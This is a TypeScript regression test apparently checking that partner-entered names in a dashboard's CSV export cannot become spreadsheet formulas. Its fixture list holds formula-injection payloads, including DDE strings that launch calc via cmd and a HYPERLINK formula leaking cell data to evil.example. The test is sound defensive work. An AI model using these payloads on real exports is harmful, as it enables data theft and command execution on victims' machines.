import t from 'tap'
import { rebuildRollups } from '../../src/answers/index.ts'
import { publish } from '../../src/answers/cell-key.ts'
import { answerStepOne, buildTestApp, seedPoster } from '../helpers.ts'
import { Browser, makeUser, testPassword } from '../auth/browser.ts'

/**
 * Issue 13, finding 4: a name typed by a partner (an activity, a location) reaches the
 * coordinator's CSV export. A spreadsheet runs a cell that starts with = + - @ (also after
 * spaces, also in fullwidth, also a tab or a line break) as a formula. The attack goes
 * through HTTP only: a signed-in partner names things, citizens answer, the coordinator
 * downloads the export.
 */

/** Splits a `;` CSV as a spreadsheet reads it: quoted fields may hold `;`, quotes and line breaks. */
function parseCsv(text: string, separator = ';'): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++
      else if (c === '"') quoted = false
      else field += c
    } else if (c === '"' && field === '') quoted = true
    else if (c === separator) row.push(field), (field = '')
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field), rows.push(row), (row = []), (field = ''), i++
    } else field += c
  }
  if (field !== '' || row.length > 0) row.push(field), rows.push(row)
  return rows
}

// What Excel, LibreOffice and Google Sheets treat as the start of a formula.
const formulaStart = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/

const hostileNames = [
  "-1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1;"klik")',
  '+1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '  =1+2',
  '\u3000=1+2',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '-2',
  '\t=1+1',
]

t.test('finding 4: names from partners reach the CSV export as text, never as a formula; computed numbers stay numbers', async (t) => {
  const { app, database } = await buildTestApp(t)
  const fixture = await seedPoster(database)
  await makeUser(database.db, 'coordinator', 'coord@example.be', { regionIds: [fixture.regionId] })
  const coordinator = new Browser(app)
  await coordinator.signIn('coord@example.be', testPassword)

  const activityUrl = `/admin/regions/${fixture.regionId}/activities/${fixture.activityId}`
  const locationUrl = `/admin/regions/${fixture.regionId}/locations/${fixture.locationId}`
  const csvUrl = `/admin/dashboard/${fixture.regionId}/export.csv?period=month`
  // Enough answers that the counts are shown (k is at most 10 by default).
  for (let i = 0; i < 12; i++) await answerStepOne(app, fixture.code, { tried_new: 'yes' }, {})
  // Published figures count up to yesterday (issue 15): the answers are moved to yesterday noon and the rollups rebuilt.
  const yesterdayNoon = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10) + 'T11:00:00.000Z'
  await database.db.updateTable('responses').set({ created_at: yesterdayNoon }).where('region_id', '=', fixture.regionId).execute()
  await rebuildRollups(database.db, fixture.regionId)
  const keys = await database.db.selectFrom('responses').select('record_key').where('region_id', '=', fixture.regionId).execute()
  const publishedResponses = publish(keys.length, keys.reduce((sum, row) => sum + row.record_key, 0) % 256)

  for (const name of hostileNames) {
    await coordinator.get(activityUrl)
    const renamed = await coordinator.post(activityUrl, { title: name, audience: 'all', partner_id: String(fixture.partnerId) })
    t.equal(renamed.statusCode, 303, `activity renamed to ${JSON.stringify(name)}`)
    await coordinator.get(locationUrl)
    const moved = await coordinator.post(locationUrl, { name, municipality: 'Tongeren' })
    t.equal(moved.statusCode, 303, `location renamed to ${JSON.stringify(name)}`)

    const csv = await coordinator.get(csvUrl)
    t.equal(csv.statusCode, 200)
    const rows = parseCsv(csv.body.replace(/^\uFEFF/, ''))
    const cells = rows.flat()
    const trimmedName = name.trim()
    t.ok(
      cells.some((cell) => cell.includes(trimmedName.slice(0, 6))),
      `${JSON.stringify(name)}: the name is in the export`,
    )
    t.same(cells.filter((cell) => formulaStart.test(cell)), [], `${JSON.stringify(name)}: no cell starts a formula`)
    // The counts we computed stay numbers a spreadsheet can add up.
    const responses = rows.find((row) => row[0] === 'Kerncijfers' && row[1] === 'Antwoorden')!
    t.equal(responses[4], String(publishedResponses), 'the count is a bare number: the published count of the 12 answers')
    const activityRow = rows.find((row) => row[0] === 'Activiteit')!
    t.match(activityRow[4], /^\d+$/, 'the activity count is a bare number')
    t.match(activityRow[5], /^\d+$/, 'the share is a number (whole percents, as on the page)')
  }
})
